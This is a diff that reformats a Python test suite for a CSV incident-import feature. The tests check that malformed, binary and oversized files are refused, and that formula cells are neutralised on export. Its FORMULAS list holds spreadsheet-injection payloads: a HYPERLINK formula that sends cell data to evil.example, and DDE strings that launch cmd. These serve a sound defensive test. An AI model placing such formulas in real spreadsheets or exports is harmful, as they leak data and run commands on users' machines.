@@ -40,8 +40,9 @@ def zip_of(text):
 
 
 TEXT = HEADER + GOOD.format(n=1)
-LATIN_1 = around("00000000-0000-4000-8000-000000000009,Roquettes tirées,2020-03-11,rocket,Taji,Baghdad\n".encode(
-    "latin-1"))
+LATIN_1 = around(
+    "00000000-0000-4000-8000-000000000009,Roquettes tirées,2020-03-11,rocket,Taji,Baghdad\n".encode("latin-1")
+)
 NUL_IN_CELL = around(GOOD.format(n=9).replace("Rockets", "Rock\x00ets").encode())
 RANDOM = TEXT.encode() + b"\x01\xfe" * 5 + b"\x00" + random.Random(6).randbytes(4096)
 
@@ -51,36 +52,73 @@ def byte_number(data, byte):
 
 
 HOSTILE = [
-    ("a 10 MB cell", around(b'00000000-0000-4000-8000-000000000009,"' + b"A" * 10_000_000 + b'",2020-03-11,rocket,'
-                            b'Taji,Baghdad\n'),
-     "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)"),
-    ("a 10 MB line without a quote", around(b"B" * 10_000_000 + b"\n"),
-     "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)"),
-    ("a 10 MB header", b"uid," + b"C" * 10_000_000 + b"\n" + GOOD.format(n=1).encode(),
-     "line 1: the header can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)"),
-    ("a quote never closed", around(b'00000000-0000-4000-8000-000000000009,"Rockets,2020-03-11,rocket,Taji,Baghdad\n'),
-     "line 3: the row can't be read as CSV: a quote opened in this row is never closed"),
-    ("text after a closing quote", around(b'00000000-0000-4000-8000-000000000009,"Rockets"hit,2020-03-11,rocket,'
-                                          b'Taji,Baghdad\n'),
-     "line 3: the row can't be read as CSV: text after a closing quote (',' expected after '\"'); "
-     "double a quote inside a quoted cell"),
-    ("a row longer than the header", around(GOOD.format(n=9).strip().encode() + b",extra,=cmd\n"),
-     "line 3: has 8 fields where the header has 6"),
-    ("a PNG image", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01", f"file: the file is binary (a PNG image), "
-                                                                          f"not CSV text; {SAVE_AS}"),
-    ("a ZIP archive named .csv", zip_of(TEXT),
-     f"file: the file is binary (a ZIP archive: an .xlsx or .ods workbook is one), not CSV text; {SAVE_AS}"),
-    ("random bytes with NULs", RANDOM,
-     f"line 3: a NUL byte (byte {byte_number(RANDOM, 0)} of the file): the file is binary or damaged, not CSV text"),
-    ("a NUL byte in a cell", NUL_IN_CELL,
-     f"line 3: a NUL byte (byte {byte_number(NUL_IN_CELL, 0)} of the file): the file is binary or damaged, "
-     "not CSV text"),
-    ("UTF-16 with a byte-order mark", TEXT.encode("utf-16"),
-     f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}"),
-    ("UTF-16 without a byte-order mark", TEXT.encode("utf-16-le"),
-     f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}"),
-    ("Latin-1 bytes that are not UTF-8", LATIN_1,
-     f"line 3: not UTF-8 text (byte 0xe9, byte {byte_number(LATIN_1, 0xE9)} of the file); {SAVE_AS}"),
+    (
+        "a 10 MB cell",
+        around(b'00000000-0000-4000-8000-000000000009,"' + b"A" * 10_000_000 + b'",2020-03-11,rocket,Taji,Baghdad\n'),
+        "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
+    ),
+    (
+        "a 10 MB line without a quote",
+        around(b"B" * 10_000_000 + b"\n"),
+        "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
+    ),
+    (
+        "a 10 MB header",
+        b"uid," + b"C" * 10_000_000 + b"\n" + GOOD.format(n=1).encode(),
+        "line 1: the header can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
+    ),
+    (
+        "a quote never closed",
+        around(b'00000000-0000-4000-8000-000000000009,"Rockets,2020-03-11,rocket,Taji,Baghdad\n'),
+        "line 3: the row can't be read as CSV: a quote opened in this row is never closed",
+    ),
+    (
+        "text after a closing quote",
+        around(b'00000000-0000-4000-8000-000000000009,"Rockets"hit,2020-03-11,rocket,Taji,Baghdad\n'),
+        "line 3: the row can't be read as CSV: text after a closing quote (',' expected after '\"'); "
+        "double a quote inside a quoted cell",
+    ),
+    (
+        "a row longer than the header",
+        around(GOOD.format(n=9).strip().encode() + b",extra,=cmd\n"),
+        "line 3: has 8 fields where the header has 6",
+    ),
+    (
+        "a PNG image",
+        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01",
+        f"file: the file is binary (a PNG image), not CSV text; {SAVE_AS}",
+    ),
+    (
+        "a ZIP archive named .csv",
+        zip_of(TEXT),
+        f"file: the file is binary (a ZIP archive: an .xlsx or .ods workbook is one), not CSV text; {SAVE_AS}",
+    ),
+    (
+        "random bytes with NULs",
+        RANDOM,
+        f"line 3: a NUL byte (byte {byte_number(RANDOM, 0)} of the file): the file is binary or damaged, not CSV text",
+    ),
+    (
+        "a NUL byte in a cell",
+        NUL_IN_CELL,
+        f"line 3: a NUL byte (byte {byte_number(NUL_IN_CELL, 0)} of the file): the file is binary or damaged, "
+        "not CSV text",
+    ),
+    (
+        "UTF-16 with a byte-order mark",
+        TEXT.encode("utf-16"),
+        f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}",
+    ),
+    (
+        "UTF-16 without a byte-order mark",
+        TEXT.encode("utf-16-le"),
+        f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}",
+    ),
+    (
+        "Latin-1 bytes that are not UTF-8",
+        LATIN_1,
+        f"line 3: not UTF-8 text (byte 0xe9, byte {byte_number(LATIN_1, 0xE9)} of the file); {SAVE_AS}",
+    ),
     ("an empty file", b"", "file: the file is empty"),
     ("blank lines only", b"\r\n \n\n", "file: the file is empty"),
     ("only a UTF-8 byte-order mark", b"\xef\xbb\xbf", "file: the file is empty"),
@@ -114,8 +152,9 @@ def test_the_command_refuses_the_file_with_one_clear_message(tmp_path, existing,
 
 
 @pytest.mark.parametrize("case, data, message", NOT_EMPTY, ids=[case[0] for case in NOT_EMPTY])
-def test_the_admin_upload_refuses_the_file_with_the_same_message(analyst_client, settings, tmp_path, existing,
-                                                                  case, data, message):
+def test_the_admin_upload_refuses_the_file_with_the_same_message(
+    analyst_client, settings, tmp_path, existing, case, data, message
+):
     settings.IMPORT_UPLOAD_DIR = str(tmp_path)
     response = upload(analyst_client, data)
     html = response.content.decode()
@@ -145,18 +184,35 @@ def test_an_upload_over_the_size_limit_is_a_form_error(analyst_client, monkeypat
     assert counts() == existing
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|'/C calc'!A0",
-            "=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "=1+1",
+]
 COLUMNS = ["title", "summary", "target_detail", "location", "claimed_by"]
 
 
 def formula_file(formula):
     buffer = io.StringIO()
     writer = csv.writer(buffer)
-    writer.writerow(["uid", "title", "date", "type", "location", "governorate", "summary", "target_detail",
-                     "claimed_by"])
-    writer.writerow(["00000000-0000-4000-8000-000000000001", formula, "2020-03-11", "rocket", formula, "Baghdad",
-                     formula, formula, formula])
+    writer.writerow(
+        ["uid", "title", "date", "type", "location", "governorate", "summary", "target_detail", "claimed_by"]
+    )
+    writer.writerow(
+        [
+            "00000000-0000-4000-8000-000000000001",
+            formula,
+            "2020-03-11",
+            "rocket",
+            formula,
+            "Baghdad",
+            formula,
+            formula,
+            formula,
+        ]
+    )
     return buffer.getvalue().encode()
 
 
@@ -172,4 +228,3 @@ def test_formula_cells_are_stored_as_given_and_exported_neutralised(client, tmp_
     exported = b"".join(client.get(reverse("incident_export_csv")).streaming_content).decode()
     row = next(csv.DictReader(io.StringIO(exported)))
     assert {column: row[column] for column in COLUMNS} == {column: "'" + formula for column in COLUMNS}
-
